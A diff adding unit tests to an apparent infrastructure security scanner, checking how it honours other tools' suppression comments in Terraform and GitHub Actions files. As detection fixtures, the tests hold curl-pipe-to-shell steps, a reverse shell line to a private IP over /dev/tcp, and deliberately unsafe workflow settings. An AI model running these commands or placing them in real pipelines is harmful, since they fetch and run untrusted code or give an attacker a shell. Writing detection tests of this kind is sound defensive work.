@@ -98,7 +98,28 @@ describe('Marks of other tools', () => {
     assert.equal(await inHcl(ecr('', '', ' #trivy:ignore:AWS-0031')), 0);
     assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n#trivy:ignore:AWS-0001\n')), 0);
     assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0001\n')), 1);
-    assert.equal(await inHcl(ecr('name = "#trivy:ignore:AWS-0031"\n')), 1);
+    assert.equal(await inHcl(ecr('variable "a" { description = "#trivy:ignore:AWS-0031" }\n')), 1);
+  });
+
+  it('of Trivy speak for the line below the last of several, and for no other', async () => {
+    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n\n')), 1);
+    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n# a note\n')), 1);
+    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n#trivy:ignore:AWS-0001\n# a note\n')), 1);
+    assert.equal(await inHcl(ecr('', '  #trivy:ignore:AWS-0031\n')), 1, 'that is the attribute of the name');
+    const inBlock = 'resource "aws_ecr_repository" "app" {\n  #trivy:ignore:AWS-0031\n  image_tag_mutability = "MUTABLE"\n}\n';
+    assert.equal(await inHcl(inBlock), 0);
+    assert.equal(await inHcl(inBlock.replaceAll('\n', '\r\n')), 0);
+  });
+
+  it('of Trivy may stand for several checks', async () => {
+    for (const [id, count] of [
+      ['AWS-*', 0],
+      ['AVD-AWS-003*', 0],
+      ['aws-ecr-*', 0],
+      ['AZU-*', 1],
+      ['aws-ecr', 1],
+    ] as const)
+      assert.equal(await inHcl(ecr(`#trivy:ignore:${id}\n`)), count, id);
   });
 
   it('of Trivy with conditions hold only where these are known to hold', async () => {
@@ -124,6 +145,16 @@ describe('Marks of other tools', () => {
     assert.equal(await inFile(variable('# tflint-ignore: all\n')), 0);
     assert.equal(await inFile(variable('# tflint-ignore-file: terraform_typed_variables\n\n')), 0);
     assert.equal(await inFile(variable('\n# tflint-ignore-file: terraform_typed_variables\n\n')), 1);
+    assert.equal(await inFile(variable('# tflint-ignore: terraform_typed_variables\n\n')), 1);
+    assert.equal(await inFile(variable('# tflint-ignore: terraform_typed_variables as any number does\n')), 1);
+    assert.equal(await inFile(variable('# tflint-ignore:terraform_typed_variables\n')), 1);
+    const json = (note: string): string => JSON.stringify({ '//': note, variable: { size: { description: 'How many.' } } });
+    assert.equal((await open('main.tf.json', json('Sizes'), ['tf-variable-untyped'])).length, 1);
+    assert.equal((await open('main.tf.json', json('tflint-ignore-file: terraform_typed_variables'), ['tf-variable-untyped'])).length, 0);
+    assert.equal(
+      (await open('main.tf.json', json('see tflint-ignore-file: terraform_typed_variables'), ['tf-variable-untyped'])).length,
+      1,
+    );
   });
 
   it('of zizmor speak for their line', async () => {
@@ -134,6 +165,51 @@ describe('Marks of other tools', () => {
     assert.equal(await found(''), 2);
     assert.equal(await found(' # zizmor: ignore[unpinned-uses]'), 1);
     assert.equal(await found(' # zizmor: ignore[artipacked]'), 2);
+    assert.equal(await found(' # pinned by hand # zizmor: ignore[artipacked, unpinned-uses,] for now'), 1);
+    for (const wrong of [
+      '#zizmor: ignore[unpinned-uses]',
+      '# zizmor:ignore[unpinned-uses]',
+      '# zizmor: ignore[]',
+      '# zizmor: ignore[unpinned-uses]x',
+    ])
+      assert.equal(await found(` ${wrong}`), 2, wrong);
+  });
+
+  it('of zizmor speak for the step, the job outside of its steps, or the entry around them', async () => {
+    const mark = (ids: string): string => `# zizmor: ignore[${ids}]`;
+    const text = (at: Readonly<Partial<Record<'top' | 'on' | 'job' | 'step' | 'between', string>>>): string =>
+      [
+        at.top ?? '# a workflow',
+        `on: pull_request_target ${at.on ?? ''}`,
+        'jobs:',
+        `  a: ${at.job ?? ''}`,
+        '    runs-on: self-hosted',
+        '    steps:',
+        '      - name: first',
+        `        ${at.step ?? '# a step'}`,
+        '        uses: actions/checkout@main',
+        '        with: { ref: "${{ github.event.pull_request.head.sha }}" }',
+        `    ${at.between ?? '# more'}`,
+        '      - uses: c/d@main',
+        '',
+      ].join('\n');
+    const ids = ['action-not-pinned-sha', 'dangerous-trigger', 'self-hosted-runner'];
+    const found = async (at: Parameters<typeof text>[0]): Promise<readonly string[]> =>
+      (await open('.github/workflows/ci.yaml', text(at), ids)).toSorted();
+    const all = ['action-not-pinned-sha', 'action-not-pinned-sha', 'dangerous-trigger', 'self-hosted-runner'];
+    assert.deepEqual(await found({}), all);
+    const every = mark('unpinned-uses,dangerous-triggers,self-hosted-runner');
+    assert.deepEqual(await found({ top: every }), all, 'above it, it means nothing');
+    assert.deepEqual(
+      await found({ on: every }),
+      all.filter((id) => id !== 'dangerous-trigger'),
+    );
+    assert.deepEqual(
+      await found({ job: every }),
+      all.filter((id) => id !== 'self-hosted-runner'),
+    );
+    assert.deepEqual(await found({ step: every }), ['action-not-pinned-sha', 'self-hosted-runner']);
+    assert.deepEqual(await found({ between: every }), all, 'between two steps it is in neither');
   });
 
   it('of checkov in a workflow speak for the step around them', async () => {
@@ -141,6 +217,20 @@ describe('Marks of other tools', () => {
     assert.deepEqual(await open('web.yaml', text, ['privileged-container']), []);
     const inItem = manifest([]).replace('          image:', '          # checkov:skip=CKV_K8S_16:in an item\n          image:');
     assert.deepEqual(await open('web.yaml', inItem, ['privileged-container']), []);
+  });
+
+  it('of checkov speak for no other step and no other job', async () => {
+    const workflow = (inStep: string, inJob: string): string =>
+      `on: push\njobs:\n  a:\n    ${inJob}\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl https://a.example | sh\n        ${inStep}\n      - run: curl https://b.example | bash\n  b:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl https://c.example | sh\n`;
+    const rule = allRules.find(({ id, equivalents }) => id === 'reverse-shell' && equivalents['checkov'] !== undefined);
+    assert.ok(rule);
+    const [check = ''] = rule.equivalents['checkov'] ?? [];
+    const shells = (text: string): string => text.replace(/curl (\S+) \| (?:ba)?sh/g, 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1');
+    const count = async (inStep: string, inJob: string): Promise<number> =>
+      (await open('.github/workflows/ci.yaml', shells(workflow(inStep, inJob)), [rule.id])).length;
+    assert.equal(await count('# one', '# job'), 3);
+    assert.equal(await count(`# checkov:skip=${check}:why`, '# job'), 2);
+    assert.equal(await count('# one', `# checkov:skip=${check}:why`), 1);
   });
 
   it('in texts are none', async () => {
